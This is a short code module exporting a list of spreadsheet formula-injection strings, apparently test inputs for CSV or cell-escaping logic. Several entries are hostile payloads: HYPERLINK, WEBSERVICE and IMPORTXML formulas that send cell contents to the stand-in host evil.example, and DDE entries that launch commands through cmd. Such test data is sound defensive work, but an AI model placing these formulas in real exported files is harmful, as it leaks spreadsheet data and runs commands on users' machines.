/** Texts that a spreadsheet program would run as a formula if they came into a cell as they are. */
export const formulas = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?" & A1, "Open")',
  '=WEBSERVICE("https://evil.example/" & B2)',
  "=cmd|'/c notepad'!A1",
  '=DDE("excel";"sheet";"cell")',
  '=IMPORTXML(CONCAT("https://evil.example/";A1);"//a")',
  '@SUM(2,3)',
  "@AVERAGE(1,2)*shell|'x'!B2",
  '+2+3',
  '-2+3',
  "-2+3+cmd|' /c calc'!D4",
  '+HYPERLINK("https://evil.example/")',
]
